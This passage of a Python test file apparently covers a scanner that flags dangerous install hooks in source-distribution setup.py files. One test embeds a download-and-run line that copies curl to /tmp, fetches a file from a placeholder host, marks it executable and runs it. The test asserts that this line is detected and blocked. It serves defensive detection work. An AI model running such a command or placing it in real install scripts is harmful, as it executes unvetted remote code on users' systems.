        "os.system('cp /usr/bin/curl /tmp/f; /tmp/f https://get.example/a -o /tmp/a; "
        "chmod +x /tmp/a; /tmp/a')\n"
    )
    assert "download-run" in {f.rule for f in report.findings}, report.findings
    assert not POLICY.decide(report).allowed, report.summary()


def test_making_a_bundled_script_executable_is_not_download_run() -> None:
    setup = (
        "import os\nfrom setuptools import setup\n"
        "os.system('chmod +x ./configure; ./configure --prefix=/usr')  # see https://x.example/\n"
        "setup(name='demo', url='https://x.example/')\n"
    )
    report = scan_archive(_sdist(setup), "demo-1.0.tar.gz")
    assert "download-run" not in {f.rule for f in report.findings}, report.findings
